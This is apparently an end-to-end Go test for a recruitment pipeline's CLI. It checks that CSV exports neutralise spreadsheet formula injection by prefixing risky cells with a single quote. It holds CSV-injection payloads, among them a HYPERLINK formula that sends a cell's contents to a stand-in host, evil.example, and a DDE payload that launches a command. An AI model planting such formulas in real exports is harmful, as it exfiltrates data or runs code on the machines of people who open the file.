package e2e

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/probation-recruitment/pipeline/pkg/csvsafe"
	applicationsv1 "github.com/probation-recruitment/pipeline/proto/gen/recruitment/applications/v1"
)

// TestPipelinectlCSVInjection stores the OWASP CSV injection payloads as
// candidates' names, a campaign's title and phone numbers through the real
// services, then lists them with pipelinectl -o csv: no cell a spreadsheet
// would evaluate reaches the file, and each payload reads as the text it
// was, behind the single quote of pkg/csvsafe.
func TestPipelinectlCSVInjection(t *testing.T) {
	t.Parallel()
	st := start(t)
	c := newCtl(t, st)
	admin := c.mint("--role", "admin", "--subject", "admin-1")
	spoc := c.mint("--role", "spoc", "--subject", "spoc-london-1", "--region", "london")

	title := `=HYPERLINK("https://evil.example/?leak="&A1,"Campaign")`
	var camp applicationsv1.CreateCampaignResponse
	c.json(admin, &camp, "campaigns", "create", "--region", "london", "--role", "probation-officer",
		"--title="+title, "--posts", "5", "--rolling", "--opens-on", time.Now().AddDate(0, 0, -30).Format(time.DateOnly))
	campaignID := camp.GetCampaign().GetId()

	phone := "+44 20 7946 0000"
	var names []string
	for i, p := range csvsafe.Payloads {
		r := c.run(spoc, "applications", "submit", "--campaign", campaignID, "--name="+p,
			fmt.Sprintf("--email=candidate%d@example.org", i), "--phone="+phone)
		if strings.ContainsAny(p, "\t\r\n") {
			// A name is one line of printable text: these never get stored.
			r.wantExit(t, 3, "candidate.name")
			continue
		}
		if r.code != 0 {
			t.Fatalf("submit %q: exit %d\n%s", p, r.code, r.stderr)
		}
		names = append(names, p)
	}
	if len(names) < 10 {
		t.Fatalf("only %d payloads were stored as names", len(names))
	}

	out := c.ok(spoc, "applications", "list", "--campaign", campaignID, "--page-size", "100", "-o", "csv").stdout
	rows := readCSV(t, out)
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	var got []string
	for _, row := range rows[1:] {
		got = append(got, row[col["name"]])
		if row[col["phone"]] != "'"+phone {
			t.Errorf("phone written as %q, want %q (text, not the number 442079460000)", row[col["phone"]], "'"+phone)
		}
	}
	for _, p := range names {
		found := false
		for _, g := range got {
			found = found || g == "'"+p
		}
		if !found {
			t.Errorf("name %q is not in the csv as %q; names: %q", p, "'"+p, got)
		}
	}
	wantNoFormula(t, rows)
	// The raw file quotes each neutralised cell, so a spreadsheet that
	// splits on ; or tab cannot start a new cell inside one.
	if !strings.Contains(out, `"'=cmd|' /C calc'!A0"`) {
		t.Errorf("the cmd payload is not a quoted, prefixed cell in:\n%s", out)
	}

	for _, args := range [][]string{
		{"campaigns", "get", campaignID, "-o", "csv"},
		{"campaigns", "list", "--region", "london", "-o", "csv"},
	} {
		rows := readCSV(t, c.ok(spoc, args...).stdout)
		wantNoFormula(t, rows)
		if rows[1][3] != "'"+title { // the columns are id, region, role, title, …
			t.Errorf("%s: title written as %q, want %q", strings.Join(args, " "), rows[1][3], "'"+title)
		}
	}
}

// wantNoFormula fails for any cell a spreadsheet would evaluate.
func wantNoFormula(t *testing.T, rows [][]string) {
	t.Helper()
	for i, row := range rows {
		for j, cell := range row {
			if csvsafe.Risky(cell) {
				t.Errorf("row %d, column %d: %q would run as a formula", i, j, cell)
			}
		}
	}
}
